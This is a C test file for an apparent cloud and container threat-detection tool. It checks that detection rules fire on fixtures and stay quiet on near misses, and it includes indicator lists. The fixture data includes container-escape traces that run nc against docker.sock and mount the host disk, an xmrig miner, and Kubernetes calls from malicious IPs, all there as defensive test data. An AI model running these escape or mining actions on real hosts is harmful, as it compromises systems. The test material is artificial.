	{ "Kubeflow dashboard exposed to the internet", 1, K8S, KA("patch", "bob", "services", "kubeflow", "centraldashboard", "", "200") SERVICE("NodePort") },
	{ "Kubeflow dashboard exposed to the internet", 0, K8S, KA("patch", "bob", "services", "default", "centraldashboard", "", "200") SERVICE("NodePort") },
	{ "Kubernetes get call from a Tor address", 1, K8S, KA_FROM("get", "171.25.193.9", "200") },
	{ "Kubernetes get call from a Tor address", 0, K8S, KA_FROM("get", "192.0.2.50", "200") },
	{ "Kubernetes create call from a Tor address", 1, K8S, KA_FROM("create", "171.25.193.9", "201") },
	{ "Kubernetes create call from a Tor address", 0, K8S, KA_FROM("create", "171.25.193.9", "403") },
	{ "Kubernetes delete call from a Tor address", 1, K8S, KA_FROM("delete", "171.25.193.9", "200") },
	{ "Kubernetes delete call from a Tor address", 0, K8S, KA_FROM("get", "171.25.193.9", "200") },
	{ "Kubernetes get call from a listed malicious address", 1, K8S, KA_FROM("list", "203.0.113.77", "200") },
	{ "Kubernetes get call from a listed malicious address", 0, K8S, KA_FROM("list", "203.0.113.78", "200") },
	{ "Kubernetes create call from a listed malicious address", 1, K8S, KA_FROM("update", "203.0.113.77", "200") },
	{ "Kubernetes create call from a listed malicious address", 0, K8S, KA_FROM("update", "203.0.113.78", "200") },
	{ "Kubernetes delete call from a listed malicious address", 1, K8S, KA_FROM("delete", "203.0.113.77", "200") },
	{ "Kubernetes delete call from a listed malicious address", 0, K8S, KA_FROM("delete", "203.0.113.78", "200") },
};

/* What a user adds to run the list-based rules: indicator files (`--lists`, each form the
 * loader reads: named after the list, a `# list:` line, CSV, a Tor exit list), a rules file
 * for what is not an indicator, and the rule shipped disabled. */
static const struct {
	const char *name, *text;
} user_indicators[] = {
	{ "backsight_c2_ips.txt", "# our C2 feed\n203.0.113.66\n\n" },
	{ "pools.csv", "# list: backsight_crypto_ips\n\"203.0.113.67\",pool,2024-01-01\n" },
	{ "drop.list", "# list: backsight_droppoint_ips\n203.0.113.68   # seen 2024-02\n" },
	{ "backsight_blackhole_ips.txt", "203.0.113.69\r\n" },
	{ "callers.txt", "# list: backsight_malicious_caller_ips\n203.0.113.77\n" },
	{ "backsight_c2_ips.json",
	  "{\"type\": \"bundle\", \"id\": \"bundle--1\", \"objects\": [{\"type\": \"indicator\", \"name\": \"beacon\","
	  " \"pattern\": \"[ipv4-addr:value = '203.0.113.166']\", \"valid_from\": \"2024-01-01T00:00:00Z\"}]}\n" },
	{ "backsight_crypto_ips.csv",
	  "uuid,event_id,category,type,value,comment,to_ids,date\n5f1,1,Network activity,ip-dst,203.0.113.167,pool,1,20240101\n"
	  "5f2,1,Payload delivery,md5,44d88612fea8a8f36de82e1278abb02f,eicar,1,20240101\n" },
	{ "feodo.csv",
	  "# list: backsight_droppoint_ips\n# Feodo Tracker\n# first_seen_utc,dst_ip,dst_port,c2_status,last_online,malware\n"
	  "2024-01-01 10:00:00,203.0.113.168,443,online,2024-01-02,QakBot\n" },
	{ "tor-exits.txt",
	  "# list: backsight_tor_ips\nExitNode 0011BD2485AD45D984EC4159C88FC066E5E3300E\nPublished 2024-01-01 00:00:00\n"
	  "LastStatus 2024-01-01 01:00:00\nExitAddress 198.51.100.201 2024-01-01 01:02:03\n" },
};
static const char user_rules[] =
	"- list: backsight_workload_egress_ips\n  items: [203.0.113.10]\n  override:\n    items: replace\n"
	"- rule: Instance credentials used outside the workload\n  enabled: true\n  override:\n    enabled: replace\n";

static const char *const ext[] = { [SYS] = "jsonl", [NET] = "jsonl", [CT] = "json", [K8S] = "jsonl",
				   [STRACE] = "strace", [AUDIT] = "log" };

static void fixture_text(size_t i, const struct fixture *f, struct strbuf *sb)
{
	switch (f->kind) {
	case SYS:
	case NET:
		strbuf_addf(sb, "{'ts_ns':%lld,'source':'%s','host':'fx','summary':'fixture %zu','pid':4242,'uid':0,'user_name':'root',",
			    1700000000000000000LL + (long long)i, f->kind == SYS ? "syscall" : "network", i);
		break;
	case CT:
		strbuf_addf(sb, "{'Records':[{'eventVersion':'1.08','eventID':'00000000-0000-0000-0000-%012zu',"
				"'eventTime':'2023-11-14T22:13:20Z','awsRegion':'us-east-1','recipientAccountId':'111122223333',",
			    i);
		if (!strstr(f->text, "'eventType'"))
			strbuf_addstr(sb, "'eventType':'AwsApiCall',");
		break;
	case K8S:
		strbuf_addf(sb, "{'kind':'Event','apiVersion':'audit.k8s.io/v1','level':'RequestResponse','auditID':'fx-%zu',"
				"'stage':'ResponseComplete','requestReceivedTimestamp':'2023-11-14T22:13:20.000000Z',"
				"'stageTimestamp':'2023-11-14T22:13:20.100000Z',",
			    i);
		break;
	default:
		strbuf_addstr(sb, f->text);
		return;
	}
	strbuf_addstr(sb, f->text);
	strbuf_addstr(sb, f->kind == CT ? "}]}\n" : "}\n");
	for (size_t k = 0; k < sb->len; k++)
		if (sb->buf[k] == '\'')
			sb->buf[k] = '"';
}

/* "fx-NNN.ext\trule\n" for every alert of the case. */
static void alerts_by_file(const char *db, struct strbuf *out)
{
	sqlite3 *h;
	sqlite3_stmt *st;

	cr_assert_eq(sqlite3_open_v2(db, &h, SQLITE_OPEN_READONLY, NULL), SQLITE_OK);
	cr_assert_eq(sqlite3_prepare_v2(h,
					"SELECT ev.name, a.rule FROM alerts a JOIN events e ON e.id = a.event_id"
					" JOIN evidence ev ON ev.id = e.evidence_id",
					-1, &st, NULL),
		     SQLITE_OK);
	while (sqlite3_step(st) == SQLITE_ROW) {
		const char *name = (const char *)sqlite3_column_text(st, 0), *slash = strrchr(name, '/');
		strbuf_addf(out, "%s\t%s\n", slash ? slash + 1 : name, sqlite3_column_text(st, 1));
	}
	sqlite3_finalize(st);
	sqlite3_close(h);
}

Test(rule_fixtures, every_rule_fires_on_its_fixture_and_not_on_its_near_miss, .timeout = 120)
{
	const size_t n = sizeof(fixtures) / sizeof(fixtures[0]);
	char *dir = test_file("fixtures"), *db = test_file("fixtures.db"), *user = test_file("user-rules.yaml"),
	     *ind = test_file("indicators");
	struct strbuf sb = STRBUF_INIT, out = STRBUF_INIT, err = STRBUF_INIT, rules = STRBUF_INIT, got = STRBUF_INIT;
	int failures = 0;

	cr_assert_eq(mkdir(dir, 0700), 0);
	for (size_t i = 0; i < n; i++) {
		char path[4096];
		strbuf_reset(&sb);
		fixture_text(i, &fixtures[i], &sb);
		snprintf(path, sizeof(path), "%s/fx-%03zu.%s", dir, i, ext[fixtures[i].kind]);
		cr_assert(test_write_file(path, sb.buf, sb.len));
	}
	cr_assert(test_write_file(user, user_rules, strlen(user_rules)));
	cr_assert_eq(mkdir(ind, 0700), 0);
	for (size_t i = 0; i < sizeof(user_indicators) / sizeof(user_indicators[0]); i++) {
		char path[4096];
		snprintf(path, sizeof(path), "%s/%s", ind, user_indicators[i].name);
		cr_assert(test_write_file(path, user_indicators[i].text, strlen(user_indicators[i].text)));
	}
	strbuf_addf(&rules, "%s/rules", test_source_root());
	cr_assert_eq(test_run(&out, &err, "import", "-q", db, dir, NULL), 0, "%s", err.buf);
	cr_assert_eq(test_run(&out, &err, "detect", "-q", db, "--rules", rules.buf, "--rules", user, "--lists", ind, NULL),
		     0, "%s", err.buf);
	alerts_by_file(db, &got);
	for (size_t i = 0; i < n; i++) {
		strbuf_reset(&sb);
		strbuf_addf(&sb, "fx-%03zu.%s\t%s\n", i, ext[fixtures[i].kind], fixtures[i].rule);
		bool fired = strstr(got.buf, sb.buf) != NULL;
		if (fired != fixtures[i].fires) {
			failures++;
			cr_log_error("fixture %zu: rule '%s' %s", i, fixtures[i].rule,
				     fired ? "fired on its near miss" : "did not fire on its fixture");
		}
	}
	cr_expect_eq(failures, 0, "%d fixtures wrong; alerts:\n%s", failures, got.buf);
	strbuf_release(&sb);
	strbuf_release(&out);
	strbuf_release(&err);
	strbuf_release(&rules);
	strbuf_release(&got);
}

/* Every shipped rule has a fixture that fires it and a near miss that must not. */
Test(rule_fixtures, every_shipped_rule_has_a_fixture_and_a_near_miss)
{
	const size_t n = sizeof(fixtures) / sizeof(fixtures[0]);
	struct strbuf out = STRBUF_INIT, err = STRBUF_INIT, rules = STRBUF_INIT;
	char *line, *p;
	int count = 0;

	strbuf_addf(&rules, "%s/rules", test_source_root());
	cr_assert_eq(test_run(&out, &err, "rules", "list", "--rules", rules.buf, NULL), 0, "%s", err.buf);
	for (p = out.buf; (line = strsep(&p, "\n"));) {
		char *tab = strchr(line, '\t');
		bool pos = false, neg = false;
		if (!tab)
			continue;
		*tab = '\0';
		count++;
		for (size_t i = 0; i < n; i++)
			if (!strcmp(fixtures[i].rule, line)) {
				pos |= fixtures[i].fires;
				neg |= !fixtures[i].fires;
			}
		cr_expect(pos, "rule '%s' has no fixture that fires it", line);
		cr_expect(neg, "rule '%s' has no near miss", line);
	}
	cr_assert_geq(count, 100);
	strbuf_release(&out);
	strbuf_release(&err);
	strbuf_release(&rules);
}

/* An indicator file for a list no rule defines is an error that names the file and the list. */
Test(rule_fixtures, indicator_file_for_an_unknown_list_is_an_error)
{
	char *bad = test_file("backsight_c3_ips.txt"), *hdr = test_file("feed.txt");
	struct strbuf out = STRBUF_INIT, err = STRBUF_INIT, rules = STRBUF_INIT;

	strbuf_addf(&rules, "%s/rules", test_source_root());
	cr_assert(test_write_file(bad, "203.0.113.1\n", 12));
	cr_assert(test_write_file(hdr, "# list: no_such_list\n203.0.113.1\n", 34));
	cr_expect_eq(test_run(&out, &err, "rules", "check", rules.buf, bad, NULL), 1);
	cr_expect_not_null(strstr(err.buf, "no list 'backsight_c3_ips' in the rules"), "%s", err.buf);
	strbuf_reset(&err);
	cr_expect_eq(test_run(&out, &err, "rules", "check", rules.buf, hdr, NULL), 1);
	cr_expect_not_null(strstr(err.buf, "names list 'no_such_list', which no rule file defines"), "%s", err.buf);
	strbuf_reset(&out);
	cr_expect_eq(test_run(&out, &err, "rules", "check", "--strict", rules.buf, NULL), 0, "%s", err.buf);
	strbuf_release(&out);
	strbuf_release(&err);
	strbuf_release(&rules);
}

/*
 * The GuardDuty tester's own indicator tests (its definitions.json, copied to
 * ../shared/corpus/guardduty): a DNS query for each Runtime test domain must raise an alert
 * tagged with exactly the finding type the tester expects.
 */
Test(rule_fixtures, guardduty_tester_domains_raise_the_expected_types)
{
	char *dir = test_file("tester"), *db = test_file("tester.db");
	struct strbuf path = STRBUF_INIT, sb = STRBUF_INIT, out = STRBUF_INIT, err = STRBUF_INIT, got = STRBUF_INIT;
	json_error_t jerr;
	json_t *root, *item, *expected = json_object();
	size_t i;
	int n = 0;
	sqlite3 *h;
	sqlite3_stmt *st;
	const char *file;
	json_t *type;

	REQUIRE_SHARED();
	strbuf_addf(&path, "%s/corpus/guardduty/guardduty-tester-definitions.json", test_shared_dir());
	root = json_load_file(path.buf, 0, &jerr);
	cr_assert_not_null(root, "%s: %s", path.buf, jerr.text);
	cr_assert_eq(mkdir(dir, 0700), 0);
	json_array_foreach(json_object_get(root, "definitions"), i, item) {
		const char *t = json_string_value(json_object_get(item, "findingType"));
		const char *ind = json_string_value(json_object_get(item, "indicator"));
		char name[64];
		if (!t || !ind || !*ind || !strstr(t, ":Runtime/"))
			continue;
		snprintf(name, sizeof(name), "q-%03zu.jsonl", i);
		strbuf_reset(&sb);
		strbuf_addf(&sb,
			    "{\"ts_ns\":%lld,\"source\":\"network\",\"host\":\"tester\",\"summary\":\"dns %s\",\"type\":\"dns\","
			    "\"src_ip\":\"10.0.0.5\",\"src_port\":40001,\"dst_ip\":\"10.0.0.2\",\"dst_port\":53,\"l4proto\":\"udp\","
			    "\"fields\":{\"dns.query\":\"%s\",\"dns.qtype\":\"A\"}}\n",
			    1700000000000000000LL + (long long)i, ind, ind);
		strbuf_reset(&path);
		strbuf_addf(&path, "%s/%s", dir, name);
		cr_assert(test_write_file(path.buf, sb.buf, sb.len));
		json_object_set_new(expected, name, json_string(t));
		n++;
	}
	cr_assert_geq(n, 11, "only %d runtime DNS tests in the tester's definitions", n);
	cr_assert_eq(test_run(&out, &err, "import", "-q", db, dir, NULL), 0, "%s", err.buf);
	cr_assert_eq(test_run(&out, &err, "detect", "-q", db, NULL), 0, "%s", err.buf);
	cr_assert_eq(sqlite3_open_v2(db, &h, SQLITE_OPEN_READONLY, NULL), SQLITE_OK);
	cr_assert_eq(sqlite3_prepare_v2(h,
					"SELECT ev.name, a.tags FROM alerts a JOIN events e ON e.id = a.event_id"
					" JOIN evidence ev ON ev.id = e.evidence_id",
					-1, &st, NULL),
		     SQLITE_OK);
	while (sqlite3_step(st) == SQLITE_ROW) {
		const char *name = (const char *)sqlite3_column_text(st, 0), *slash = strrchr(name, '/');
		strbuf_addf(&got, "%s\t%s\n", slash ? slash + 1 : name, sqlite3_column_text(st, 1));
	}
	sqlite3_finalize(st);
	sqlite3_close(h);
	json_object_foreach(expected, file, type) {
		strbuf_reset(&sb);
		strbuf_addf(&sb, "%s\t", file);
		const char *line = strstr(got.buf, sb.buf);
		strbuf_reset(&sb);
		strbuf_addf(&sb, "\"guardduty:%s\"", json_string_value(type));
		const char *eol = line ? strchr(line, '\n') : NULL;
		const char *tag = line ? strstr(line, sb.buf) : NULL;
		cr_expect(line && tag && tag < eol, "%s (%s): no alert tagged %s in:\n%s", file, json_string_value(type), sb.buf,
			  got.buf);
	}
	json_decref(expected);
	json_decref(root);
	strbuf_release(&path);
	strbuf_release(&sb);
	strbuf_release(&out);
	strbuf_release(&err);
	strbuf_release(&got);
}

/* `backsight rules test`: the shipped fixture files pass; a wrong expectation, an unknown rule
 * and an unreadable line are each reported with FILE:LINE and fail the run. */
Test(rule_fixtures, rules_test_command)
{
	static const char bad[] =
		"# comment lines are skipped\n"
		"{\"rule\": \"Crypto miner executed\", \"fires\": true, \"event\": {\"type\": \"execve\", \"proc_name\": \"ls\","
		" \"cmdline\": \"ls\", \"result\": \"0\"}}\n"
		"{\"rule\": \"Crypto miner executed\", \"fires\": false, \"event\": {\"type\": \"execve\", \"proc_name\": \"xmrig\","
		" \"cmdline\": \"xmrig\", \"result\": \"0\"}}\n"
		"{\"rule\": \"No such rule\", \"fires\": true, \"event\": {\"type\": \"execve\"}}\n"
		"{\"rule\": \"Root credentials used\", \"fires\": true}\n"
		"{\"rule\": \"Root credentials used\", \"fires\": true, \"cloudtrail\": {\"userIdentity\": {\"type\": \"Root\"},"
		" \"eventSource\": \"iam.amazonaws.com\", \"eventName\": \"ListUsers\", \"sourceIPAddress\": \"198.51.100.1\"}}\n";
	char *file = test_file("bad-fixtures.jsonl");
	struct strbuf out = STRBUF_INIT, err = STRBUF_INIT, dir = STRBUF_INIT;

	strbuf_addf(&dir, "%s/rules/fixtures", test_source_root());
	cr_assert_eq(test_run(&out, &err, "rules", "test", dir.buf, NULL), 0, "%s%s", out.buf, err.buf);
	cr_expect(strstr(out.buf, " fixtures: ") && strstr(out.buf, " passed, 0 failed\n"), "%s", out.buf);
	cr_assert(test_write_file(file, bad, strlen(bad)));
	strbuf_reset(&out);
	strbuf_reset(&err);
	cr_expect_eq(test_run(&out, &err, "rules", "test", file, NULL), 1);
	cr_expect_not_null(strstr(out.buf, "bad-fixtures.jsonl:2: rule 'Crypto miner executed' did not fire on its fixture"), "%s",
			   out.buf);
	cr_expect_not_null(strstr(out.buf, "bad-fixtures.jsonl:3: rule 'Crypto miner executed' fired on a near miss"), "%s",
			   out.buf);
	cr_expect_not_null(strstr(out.buf, "bad-fixtures.jsonl:4: no rule named 'No such rule'"), "%s", out.buf);
	cr_expect_not_null(strstr(err.buf, "bad-fixtures.jsonl:5: wants exactly one of event"), "%s", err.buf);
	cr_expect_not_null(strstr(out.buf, "4 fixtures: 1 passed, 3 failed; some lines could not be read"), "%s", out.buf);
	strbuf_release(&out);
	strbuf_release(&err);
	strbuf_release(&dir);
}

/* The rules' gd_context tags put GuardDuty's runtime context members into findings.json. */
Test(rule_fixtures, guardduty_context_members_in_findings_json)
{
	static const char trace[] =
		"200 1700000000.000001 execve(\"/usr/bin/nc\", [\"nc\", \"-U\", \"/var/run/docker.sock\"], 0x7ffd0 /* 9 vars */) = 0\n"
		"200 1700000000.000002 socket(AF_UNIX, SOCK_STREAM, 0) = 3\n"
		"200 1700000000.000003 connect(3, {sa_family=AF_UNIX, sun_path=\"/var/run/docker.sock\"}, 110) = -1 ENOENT "
		"(No such file or directory)\n"
		"300 1700000001.000001 execve(\"/usr/bin/mount\", [\"mount\", \"/dev/nvme0n1p1\", \"/mnt/host\"], 0x7ffd0 /* 9 vars */) = 0\n"
		"300 1700000001.000002 mount(\"/dev/nvme0n1p1\", \"/mnt/host\", \"ext4\", 0, NULL) = -1 EPERM (Operation not permitted)\n";
	static const char *const want[] = {
		"\"socketPath\": \"/var/run/docker.sock\"",
		"\"mountSource\": \"/dev/nvme0n1p1\"",
		"\"mountTarget\": \"/mnt/host\"",
		"\"toolName\": \"nc\"",
		"\"commandLineExample\": \"mount /dev/nvme0n1p1 /mnt/host\"",
	};
	char *ev = test_file("tester.strace"), *out_dir = test_file("ctx-out");
	struct strbuf out = STRBUF_INIT, err = STRBUF_INIT, path = STRBUF_INIT, json = STRBUF_INIT;

	cr_assert(test_write_file(ev, trace, strlen(trace)));
	cr_assert_eq(test_run(&out, &err, "investigate", "-q", "-o", out_dir, ev, NULL), 0, "%s", err.buf);
	strbuf_addf(&path, "%s/findings.json", out_dir);
	cr_assert(test_read_file(path.buf, &json));
	for (size_t i = 0; i < sizeof(want) / sizeof(want[0]); i++)
		cr_expect_not_null(strstr(json.buf, want[i]), "no %s in findings.json", want[i]);
	strbuf_release(&out);
	strbuf_release(&err);
	strbuf_release(&path);
	strbuf_release(&json);
}
